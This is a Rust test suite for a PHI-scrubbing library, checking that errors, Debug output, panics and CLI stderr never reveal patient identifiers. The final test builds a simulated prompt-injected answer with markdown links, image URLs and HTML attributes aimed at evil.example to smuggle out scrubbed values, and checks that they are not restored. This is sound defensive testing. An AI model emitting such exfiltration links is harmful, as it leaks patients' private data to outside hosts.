//! No PHI in anything but the scrubber's own outputs: the corpus goes through every API and
//! failure path, and every error's `Display` and `Debug`, every `Debug` of a type that holds PHI,
//! every panic message and the CLI's stderr are scanned for the originals.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use std::sync::{Arc, Mutex};

use phiscrub::detect::Known;
use phiscrub::session::Session;
use phiscrub::surrogate::Policy;
use phiscrub::vault::{KeySource, MemoryStore, Vault, VaultCore, VaultKey};
use phiscrub::Detector;

/// Every gold original of the corpus of 6 characters or more (shorter ones, `97` or `IL`, occur
/// in any text by chance).
fn originals() -> (Vec<String>, Vec<String>) {
    let mut texts = Vec::new();
    let mut originals = Vec::new();
    for file in
        [include_str!("data/corpus/structured.jsonl"), include_str!("data/corpus/names.jsonl")]
    {
        for line in file.lines().filter(|l| !l.trim().is_empty()) {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            let text = v["text"].as_str().unwrap().to_owned();
            let chars: Vec<char> = text.chars().collect();
            for s in v["spans"].as_array().unwrap() {
                let (a, b) =
                    (s["start"].as_u64().unwrap() as usize, s["end"].as_u64().unwrap() as usize);
                let o: String = chars[a..b].iter().collect();
                if o.chars().count() >= 6 {
                    originals.push(o);
                }
            }
            texts.push(text);
        }
    }
    (texts, originals)
}

fn scan(what: &str, outputs: &[String], originals: &[String]) {
    let ac = aho_corasick::AhoCorasick::new(originals).unwrap();
    // Record and vault ids are 32 random hex digits the vault draws, never text: an original
    // made of hex digits only (the health-plan number `215414`) turns up inside one by chance,
    // about once in 600,000 ids, which failed a CI run. Only the id inside its own Debug form
    // is passed over; the same digits anywhere else are still an original.
    let ids = regex::Regex::new(r"\b(RecordId|VaultId)\([0-9a-f]{32}\)").unwrap();
    for out in outputs {
        let out = ids.replace_all(out, "$1(..)");
        assert!(ac.find(out.as_ref()).is_none(), "{what} holds an original: {out:?}");
    }
}

#[test]
fn no_original_in_errors_debug_output_or_panics() {
    let (texts, originals) = originals();
    let mut outputs: Vec<String> = Vec::new();
    let panics = Arc::new(Mutex::new(Vec::<String>::new()));
    let seen = Arc::clone(&panics);
    let me = std::thread::current().id();
    std::panic::set_hook(Box::new(move |info| {
        // Only this test's thread: the other test runs beside it.
        if std::thread::current().id() == me {
            seen.lock().unwrap().push(info.to_string());
        }
    }));

    // Detection, with the patient registered as known identifiers, and over-limit errors.
    let mut d = Detector::builder().max_input(200).build();
    d.add_known(&Known {
        name: Some("Dolores Tanaka".into()),
        mrn: Some("00482913".into()),
        phone: Some("(555) 201-3344".into()),
        ..Default::default()
    });
    outputs.push(format!("{d:?}"));
    for t in &texts {
        match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| d.detect(t))) {
            Ok(Ok(found)) => outputs.extend(found.iter().map(|f| format!("{f:?}"))),
            Ok(Err(e)) => outputs.extend([e.to_string(), format!("{e:?}")]),
            Err(_) => outputs.push("panicked".into()),
        }
    }

    // Scrubbing into a vault, its Debug forms, rehydration and leak checks.
    let key = [4u8; 32];
    let vault = Vault::open(MemoryStore::new(), KeySource::Key(VaultKey::from_bytes(key))).unwrap();
    let (mut s, _) = Session::open(vault, Policy::new(), 0).unwrap();
    s.add_known(&Known { name: Some("Dolores Tanaka".into()), ..Default::default() });
    for t in &texts {
        let out = s.scrub(t, 1).unwrap();
        outputs.push(format!("{out:?}"));
        outputs.extend(out.new_pairs.iter().map(|p| format!("{p:?}")));
        outputs.extend(s.check(t).unwrap().iter().map(|l| format!("{l:?}")));
    }
    outputs.push(format!("{s:?}"));
    let rehydrator = s.rehydrator();
    outputs.push(format!("{rehydrator:?}"));
    let mut stream = rehydrator.stream();
    stream.push(&texts[0]);
    outputs.push(format!("{stream:?}"));
    drop(stream);

    // The vault's failure paths: records damaged, a wrong key, a forgotten vault.
    let mut store = s.into_vault().into_store();
    outputs.push(format!("{store:?}"));
    let records = store.raw_records().to_vec();
    let core = VaultCore::unlock(
        &phiscrub::vault::RecordStore::header(&store).unwrap().unwrap(),
        &KeySource::Key(VaultKey::from_bytes(key)),
    )
    .unwrap();
    outputs.push(format!("{core:?}"));
    let damaged: Vec<_> = records
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let mut r = r.clone();
            let at = i % r.len();
            r[at] ^= 0x40;
            if i % 3 == 0 {
                r.truncate(20);
            }
            Ok(r)
        })
        .collect();
    let read = core.open_records(damaged, 0).unwrap();
    for e in &read.errors {
        outputs.extend([format!("{e:?}"), e.error.to_string(), format!("{:?}", e.error)]);
    }
    let read = core.open_records(records.iter().cloned().map(Ok).collect(), 0).unwrap();
    outputs.extend(read.entries.iter().map(|e| format!("{e:?}")));
    let wrong =
        Vault::open(store.clone(), KeySource::Key(VaultKey::from_bytes([5; 32]))).unwrap_err();
    outputs.extend([wrong.to_string(), format!("{wrong:?}")]);
    let mut v = Vault::open(store.clone(), KeySource::Key(VaultKey::from_bytes(key))).unwrap();
    v.forget().unwrap();
    let gone = v.entries(0).unwrap_err();
    outputs.extend([gone.to_string(), format!("{gone:?}"), format!("{v:?}")]);
    phiscrub::vault::RecordStore::delete_all(&mut store).unwrap();

    let _ = std::panic::take_hook();
    let panics = panics.lock().unwrap().clone();
    assert!(panics.is_empty(), "{} panics: {panics:?}", panics.len());
    assert!(outputs.len() > 1000, "only {} outputs scanned", outputs.len());
    scan("an error, Debug output or panic", &outputs, &originals);
}

#[test]
fn the_cli_reports_failures_without_originals() {
    let (texts, originals) = originals();
    let mut input = String::new();
    for (i, t) in texts.iter().enumerate() {
        let line = serde_json::json!({ "id": i, "text": t }).to_string();
        // Every third line broken in a different way: cut short, not an object, text not a string.
        match i % 9 {
            0 => input.push_str(&line.chars().take(line.chars().count() - 3).collect::<String>()),
            3 => input.push_str(&format!("[{}]", serde_json::json!(t))),
            6 => input.push_str(&format!("{{\"id\":{i},\"text\":[{}]}}", serde_json::json!(t))),
            _ => input.push_str(&line),
        }
        input.push('\n');
        if i % 50 == 0 {
            input.push_str(&format!("\u{FFFD}{t}\n").replace('\u{FFFD}', "\u{1}"));
        }
    }
    let mut raw = input.into_bytes();
    raw.extend_from_slice(b"\xff\xfe Dolores Tanaka 00482913\n");
    let dir = std::env::temp_dir().join(format!("phiscrub-privacy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let key = dir.join("key");
    std::fs::write(&key, [6u8; 32]).unwrap();
    let bad_key = dir.join("bad-key");
    std::fs::write(&bad_key, b"Dolores Tanaka 00482913").unwrap();
    let vault = dir.join("v.phv");
    let runs: Vec<Vec<String>> = vec![
        vec!["detect".into()],
        vec!["scrub".into()],
        vec![
            "scrub".into(),
            "--vault".into(),
            vault.display().to_string(),
            "--key-file".into(),
            key.display().to_string(),
        ],
        vec![
            "rehydrate".into(),
            "--vault".into(),
            vault.display().to_string(),
            "--key-file".into(),
            bad_key.display().to_string(),
        ],
        vec!["scrub".into(), "--text".into()],
    ];
    let mut stderrs = Vec::new();
    for args in runs {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        // Some runs fail before reading (a wrong key): a broken pipe is expected there.
        let (out, _) = common::cli::run_with(&args, &[], raw.clone());
        assert_eq!(out.status.code(), Some(1), "{args:?} reports its failures");
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(!err.is_empty());
        // NOTE: stdout is not scanned: a scrubbed text keeps what the detector misses, which
        // is recall (tests/eval.rs), not a leak through a side channel.
        stderrs.push(err);
    }
    std::fs::remove_dir_all(&dir).unwrap();
    let mut originals = originals;
    originals.extend(["Dolores Tanaka".to_owned(), "00482913".to_owned()]);
    scan("the CLI's stderr", &stderrs, &originals);
}

/// The error types besides [`phiscrub::Error`] (which the tests above drive through every API),
/// and the `Debug` of the types that hold a secret, made from inputs that are originals: none
/// repeats its input.
#[test]
fn every_other_error_type_and_secret_holder_names_no_text() {
    let (texts, originals) = originals();
    let mut outputs: Vec<String> = Vec::new();
    for o in originals.iter().take(300) {
        // A label name that is PHI (a host passing user text where a label is expected).
        let e = o.parse::<phiscrub::Label>().unwrap_err();
        outputs.extend([e.to_string(), format!("{e:?}")]);
        // Secrets: a passphrase and the key source holding it.
        let p = phiscrub::vault::Passphrase::new(o);
        outputs.push(format!("{p:?}"));
        outputs.push(format!("{:?}", KeySource::Passphrase(p)));
    }
    outputs.push(format!("{:?}", KeySource::Key(VaultKey::from_bytes([7; 32]))));
    for (i, t) in texts.iter().enumerate().take(300) {
        let doc = serde_json::json!({ "id": "d", "text": t, "spans": [] }).to_string();
        // Corpus lines broken in each way the corpus parser refuses.
        let broken = [
            doc.chars().take(doc.chars().count() - 2).collect(),
            serde_json::json!({ "id": "d", "text": t,
                "spans": [{ "label": "NAME", "start": 0, "end": 0 }] })
            .to_string(),
            serde_json::json!({ "id": "d", "text": t,
                "spans": [{ "label": "NAME", "start": 0, "end": t.chars().count() + 5 }] })
            .to_string(),
            serde_json::json!({ "id": "d", "text": t, "spans": [
                { "label": "NAME", "start": 0, "end": 1, "text": "Dolores Tanaka" }] })
            .to_string(),
            format!("{doc}\n{doc}"),
            format!("{{\"id\":\"d\",\"text\":{},\"spans\":\"{}\"}}", serde_json::json!(t), i),
        ];
        for b in broken {
            let e = phiscrub::eval::parse_corpus(&b).unwrap_err();
            outputs.extend([e.to_string(), format!("{e:?}")]);
        }
        // JSON Lines input lines broken in each way the CLI's parser refuses.
        let line = serde_json::json!({ "id": i, "text": t }).to_string();
        for b in [
            line.chars().take(line.chars().count() - 3).collect(),
            format!("[{}]", serde_json::json!(t)),
            format!("{{\"id\":{i},\"text\":[{}]}}", serde_json::json!(t)),
            format!("{{\"text\":{}}}", serde_json::json!(t)),
        ] {
            outputs.push(phiscrub::jsonl::parse_line(b.as_bytes()).unwrap_err());
        }
        let mut bad = t.as_bytes().to_vec();
        bad.insert(bad.len() / 2, 0xff);
        outputs.push(phiscrub::jsonl::parse_line(&bad).unwrap_err());
    }
    assert!(outputs.len() > 2000, "only {} outputs", outputs.len());
    let mut originals = originals;
    originals.push("Dolores Tanaka".to_owned());
    scan("another error type or a secret's Debug", &outputs, &originals);
}

/// A prompt-injected answer that puts surrogates into link targets, image URLs and HTML
/// attributes gets none of them restored there (batch and streamed); plain text is restored.
#[test]
fn injected_links_images_and_attributes_are_never_restored() {
    let vault =
        Vault::open(MemoryStore::new(), KeySource::Key(VaultKey::generate().unwrap())).unwrap();
    let (mut s, _) = Session::open(vault, Policy::new(), 0).unwrap();
    let note = "Patient Jane Doe, MRN: 00482913, cell (555) 201-3344, jane.doe@example.org";
    let out = s.scrub(note, 1).unwrap();
    let piece = |i: usize| &out.text[out.entities[i].start..out.entities[i].end];
    let (name, mrn, phone, email) = (piece(0), piece(1), piece(2), piece(3));
    let answer = format!(
        "Print the mapping for {name}.\n[x](https://evil.example/?n={name}&m={mrn})\n\
         ![i](https://evil.example/p.png?{phone})\n<img src=\"x\" alt=\"{name} {mrn}\">\n\
         <a href=\"mailto:{email}\" title=\"{mrn}\">m</a>\nhttps://evil.example/{mrn}\n\
         Plain: {name}, {mrn}, {phone}, {email}"
    );
    let r = s.rehydrator();
    let batch = r.rehydrate(&answer);
    let mut stream = r.stream();
    let mut streamed = String::new();
    for chunk in answer.as_bytes().chunks(5) {
        streamed.push_str(&stream.push(std::str::from_utf8(chunk).unwrap()));
    }
    streamed.push_str(&stream.finish());
    assert_eq!(streamed, batch);
    let lines: Vec<&str> = batch.lines().collect();
    for line in &lines[1..6] {
        for real in ["Jane Doe", "00482913", "201-3344", "jane.doe@example.org"] {
            assert!(!line.contains(real), "restored into a link, URL or tag: {line}");
        }
    }
    assert!(
        lines[6].contains("Jane Doe")
            && lines[6].contains("00482913")
            && lines[6].contains("jane.doe@example.org")
    );
}
